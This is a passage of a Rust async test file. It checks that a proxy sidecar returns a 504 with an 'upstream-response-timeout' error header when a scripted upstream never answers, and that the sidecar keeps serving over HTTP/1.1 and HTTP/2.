    for s in streams {
        s.abort();
    }
    conn_task.abort();
    h.assert_logs_clean();
}

/// An upstream that never sends a response head gets `upstream_response_timeout_secs` (default
/// 600 s; 1 s here): then the client has a `504` with `X-Vault-Error: upstream-response-timeout`,
/// not a request left open forever, and the same sidecar goes on serving.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upstream_that_never_answers_is_a_504_after_the_response_timeout() {
    let up = Scripted::start(ANTHROPIC_REAL).await;
    let sidecar = support::ops::OwnSidecar::start(&up.sidecar_config(), "upstream_response_timeout_secs = 1").await;
    for proto in ["--http1.1", "--http2"] {
        let out = sidecar
            .curl()
            .args([proto, "-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
            .arg("https://api.anthropic.com/silent")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 504, "{proto}: {}", out.body_text());
        assert_eq!(
            out.header("x-vault-error"),
            Some("upstream-response-timeout"),
            "{proto}"
        );
        let out = sidecar
            .curl()
            .args([proto, "-H", &format!("x-api-key: {ANTHROPIC_STUB}")])
            .arg("https://api.anthropic.com/reflect")
            .run()
            .await
            .ok();
        assert_eq!(out.status, 200, "{proto}: {}", out.body_text());
    }
}
